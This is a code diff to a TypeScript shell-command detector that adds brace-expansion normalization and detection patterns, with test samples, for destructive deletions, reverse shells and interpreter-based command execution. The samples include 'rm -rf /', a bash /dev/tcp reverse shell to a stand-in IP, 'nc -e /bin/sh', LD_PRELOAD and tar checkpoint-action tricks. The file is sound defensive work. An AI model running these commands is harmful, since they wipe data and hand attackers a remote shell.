@@ -3,8 +3,11 @@ import { type RuleSet, rule } from './rule.js';
 
 /** As a shell reads it: without the quotes and backslashes that stand inside of words, and with spaces for `$IFS`. */
 function read(text: string): string | undefined {
-  if (!/['"\\$^`]/.test(text)) return undefined;
-  return text.replace(/\$\{?IFS\}?(?:\$\d)?/g, ' ').replace(/['"\\^]|\$@|``/g, '');
+  if (!/['"\\$^`{]/.test(text)) return undefined;
+  const unfolded = text.replace(/\{([^{}\s]{1,200},[^{}\s]{0,200})\}/g, (_, list: string) =>
+    list.replaceAll(',', ' '),
+  );
+  return unfolded.replace(/\$\{?IFS\}?(?:\$\d)?/g, ' ').replace(/['"\\^]|\$@|``/g, '');
 }
 
 export const shell: RuleSet = {
@@ -19,6 +22,7 @@ export const shell: RuleSet = {
         'rm -rf /',
         'rm -r -f x',
         "r''m -rf x",
+        '{rm,-rf,/}',
         'rm${IFS}-rf x',
         'del /s x',
         'find . -name x -delete',
@@ -41,9 +45,26 @@ export const shell: RuleSet = {
     rule(
       'shell-connection',
       'a shell that listens or calls back',
-      /\/dev\/(?:tcp|udp)\/|\b(?:nc|ncat|netcat)\b[^\n]{0,100}\s-[a-z]{0,8}[ec]\b|\b(?:ba|z)?sh\s{1,8}-i\b|\bsocat\b[^\n]{0,200}\bexec:|\bmkfifo\b[^\n]{0,200}\|\s{0,8}(?:nc|sh)/i,
+      /\/dev\/(?:tcp|udp)\/|\b(?:nc|ncat|netcat)\b[^\n]{0,100}\s-[a-z]{0,8}[ecl][a-z]{0,4}\b|\b(?:ba|z)?sh\s{1,8}-i\b|\bsocat\b[^\n]{0,200}\bexec:|\bmkfifo\b[^\n]{0,200}\|\s{0,8}(?:nc|sh)/i,
       ['bash -i >& /dev/tcp/192.0.2.1/4444 0>&1', 'nc -e /bin/sh 192.0.2.1 4444', 'socat tcp:x exec:sh'],
       ['nc -z host 80', 'bash script.sh'],
+    ),
+    rule(
+      'shell-interpreter',
+      'a program that is started through another',
+      /\b(?:python[23]?|perl|ruby|node|php|lua|deno|bun)\s{1,8}(?:-[a-z]{0,8}[ecpr]\b|--eval\b|--print\b|eval\b)|\b(?:ba|z|da|k|c|fi)?sh\s{1,8}-[a-z]{0,6}c\b|\bcmd(?:\.exe)?\s{1,8}\/c\b|\bfind\s[^\n]{0,200}\s-(?:exec|ok)(?:dir)?\s|\bxargs\s{1,8}\S|--(?:checkpoint-action|upload-pack|receive-pack|to-command|use-compress-program|rsh)=|\bawk\b[^\n]{0,200}\bsystem\s{0,4}\(|\bGIT_SSH_COMMAND=|\bLD_PRELOAD=/i,
+      [
+        ...[
+          'python -c "import os"',
+          'node -e x',
+          'bash -c "id"',
+          'cmd /c dir',
+          'find / -exec rm {} ;',
+          'ls | xargs rm',
+        ],
+        ...['tar --checkpoint-action=exec=sh', 'awk \'BEGIN{system("id")}\'', 'LD_PRELOAD=/tmp/x.so id'],
+      ],
+      ['python script.py', 'node server.js', 'a shell -c', 'find the exec'],
     ),
     rule(
       'shell-substitution',
